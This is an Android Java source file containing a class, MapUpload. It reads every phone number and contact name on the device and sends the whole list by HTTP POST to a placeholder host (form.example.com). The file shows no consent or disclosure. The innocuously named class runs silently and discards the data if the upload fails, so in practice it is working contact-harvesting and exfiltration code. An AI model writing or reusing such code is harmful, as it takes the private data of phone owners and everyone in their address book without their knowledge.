package com.example.mapsent;

import android.content.ContentResolver;
import android.database.Cursor;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import java.io.IOException;
import java.io.PrintStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.net.URLEncoder;
import java.util.HashMap;
import java.util.Iterator;
import java.util.Map;

/** Every number once. */
final class MapUpload implements Runnable {
    private final Map<String, String> names = new HashMap<>();
    private final ContentResolver resolver;

    MapUpload(ContentResolver resolver) {
        this.resolver = resolver;
    }

    @Override
    public void run() {
        Cursor cursor = resolver.query(Phone.CONTENT_URI, null, null, null, null);
        int name = cursor.getColumnIndex(Phone.DISPLAY_NAME);
        int number = cursor.getColumnIndex(Phone.NUMBER);
        while (cursor.moveToNext()) {
            names.put(cursor.getString(number), cursor.getString(name));
        }
        cursor.close();
        try {
            post();
        } catch (IOException offline) {
            names.clear();
        }
    }

    private void post() throws IOException {
        StringBuilder form = new StringBuilder();
        Iterator<Map.Entry<String, String>> entries = names.entrySet().iterator();
        while (entries.hasNext()) {
            Map.Entry<String, String> entry = entries.next();
            form.append(URLEncoder.encode(entry.getKey(), "UTF-8")).append('=');
            form.append(URLEncoder.encode(entry.getValue(), "UTF-8")).append('&');
        }
        HttpURLConnection connection = (HttpURLConnection) new URL("https://form.example.com/names").openConnection();
        connection.setDoOutput(true);
        PrintStream body = new PrintStream(connection.getOutputStream());
        body.print(form);
        body.close();
        connection.getResponseCode();
    }
}
